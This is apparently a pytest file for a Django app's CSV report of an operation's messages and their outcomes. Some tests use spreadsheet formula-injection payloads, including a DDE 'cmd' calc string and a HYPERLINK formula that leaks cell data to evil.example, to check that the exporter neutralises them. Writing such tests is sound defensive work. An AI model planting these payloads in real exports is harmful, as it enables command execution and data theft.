"""The report of an operation: every message with what became of it, as CSV."""

import csv
import io
from typing import cast

import pytest
from asgiref.sync import async_to_sync
from django.contrib.auth.models import User
from django.http import StreamingHttpResponse
from django.test import AsyncClient, Client
from django.utils import timezone

from messaging.models import Operation
from messaging.views import report
from tests.factories import make_account, make_message, make_user
from tests.messaging.views.test_operations import item_of, make_operation


def text_of(client: Client, operation: Operation) -> str:
    address = f"/operations/{operation.pk}/report.csv"
    answer = cast(StreamingHttpResponse, client.get(address))
    assert answer["Content-Type"] == "text/csv; charset=utf-8"
    return answer.getvalue().decode()


def table(client: Client, operation: Operation) -> list[list[str]]:
    """All rows without the head."""
    text = text_of(client, operation)
    assert text.startswith("\ufeff")
    return list(csv.reader(io.StringIO(text)))[1:]


def test_report_names_every_message_and_its_outcome(client: Client, user: User) -> None:
    account = make_account(user, handle="me", host="mixi.example")
    operation = make_operation(user, total=5)
    done = make_message(account=account, title="a title", url="https://mixi.example/1")
    item_of(operation, done, state="done", settled_at=timezone.now())
    for text, values in (
        ("was gone", {"state": "done", "gone": True}),
        ("refused", {"state": "failed", "error": "not-yours"}),
        ("called off", {"state": "skipped", "error": "cancelled"}),
        ("not begun", {"state": "pending"}),
    ):
        item_of(operation, make_message(account=account, text=text), **values)
    rows = table(client, operation)
    first = ["me", "mixi.example", "https://mixi.example/1", "a title", "Done", ""]
    assert rows[0][:6] == first
    assert rows[0][6].startswith(str(timezone.now().year))
    assert [row[3:6] for row in rows[1:]] == [
        ["was gone", "Already gone", ""],
        ["refused", "Failed", "written by others; only they can delete it"],
        ["called off", "Cancelled", ""],
        ["not begun", "Waiting", ""],
    ]


@pytest.mark.parametrize("start", ["=", "+", "-", "@", "＝"])
def test_cell_is_never_a_formula(client: Client, user: User, start: str) -> None:
    hostile = f'{start}cmd|"/c calc"!A1'
    account = make_account(user, handle=hostile)
    operation = make_operation(user)
    message = make_message(account=account, text=f"\t {hostile}", url="")
    item_of(operation, message, state="failed", error=hostile)
    cells = table(client, operation)[0]
    assert not any(report.FORMULA.search(cell) for cell in cells)
    assert f"'{hostile}" in cells


@pytest.mark.parametrize(
    "hostile",
    ['hi; =HYPERLINK("http://evil.example/?"&A1)', "hi;\"=cmd|' /C calc'!A0;"],
)
def test_semicolon_begins_no_formula_either(
    client: Client, user: User, hostile: str
) -> None:
    """It ends a cell where commas write decimals."""
    operation = make_operation(user)
    item_of(operation, make_message(account=make_account(user), text=hostile))
    assert table(client, operation)[0][3] == "'" + hostile.replace(";", ",")


def test_text_stays_in_its_cell(client: Client, user: User) -> None:
    operation = make_operation(user)
    message = make_message(account=make_account(user), text='a "quote", \r\n and more')
    item_of(operation, message, state="done")
    assert table(client, operation)[0][3] == 'a "quote", and more'


def test_erased_message_is_named_by_its_id(client: Client, user: User) -> None:
    operation = make_operation(user)
    message = make_message(account=make_account(user))
    item_of(operation, message, state="done")
    message.delete()
    assert table(client, operation)[0][2:4] == [message.remote_id, "Post"]


def test_report_is_read_part_by_part(
    client: Client, user: User, monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.setattr(report, "ROWS", 3)
    account, operation = make_account(user), make_operation(user)
    for number in range(7):
        message = make_message(account=account, text=f"text {number}")
        item_of(operation, message, state="done")
    texts = [row[3] for row in table(client, operation)]
    assert texts == [f"text {number}" for number in range(7)]
    answer = client.get(f"/operations/{operation.pk}/report.csv")
    parts = list(cast(StreamingHttpResponse, answer))
    assert len(parts) == 4


def test_report_is_in_the_readers_words_and_time(client: Client, user: User) -> None:
    client.cookies["django_language"] = "ja"
    client.cookies["time_zone"] = "Asia%2FTokyo"
    operation = make_operation(user)
    message = make_message(account=make_account(user))
    item_of(operation, message, state="done", settled_at=timezone.now())
    assert table(client, operation)[0][6].endswith("+09:00")


@pytest.mark.django_db(transaction=True)
def test_report_streams_from_the_real_server() -> None:
    user = make_user("hana")
    operation = make_operation(user)
    item_of(operation, make_message(account=make_account(user)), state="done")

    async def scenario() -> bytes:
        client = AsyncClient()
        await client.aforce_login(user)
        address = f"/operations/{operation.pk}/report.csv"
        answer = cast(StreamingHttpResponse, await client.get(address))
        return b"".join([part async for part in answer])

    assert b"Hello" in async_to_sync(scenario)()


def test_report_of_a_stranger_is_not_found(client: Client, user: User) -> None:
    operation = make_operation(make_user("eve"))
    answer = client.get(f"/operations/{operation.pk}/report.csv")
    assert answer.status_code == 404
